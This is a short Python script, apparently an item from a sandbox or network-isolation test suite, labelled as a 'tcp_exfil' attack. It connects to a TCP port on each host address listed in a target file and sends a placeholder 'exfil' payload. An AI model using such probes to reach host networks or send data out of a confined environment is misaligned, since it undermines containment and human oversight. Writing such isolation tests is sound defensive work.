# attack: tcp_host_listener
# category: tcp_exfil
# kind: network
# describe: connect to a TCP listener on every host address and send data
import json
T = json.load(open("target.json"))

import socket
for ip in T["host_ips"]:
    try:
        s = socket.create_connection((ip, T["tcp_port"]), timeout=1)
        s.sendall(b"exfil")
        print("connected to", ip)
    except OSError as e:
        print(ip, e)
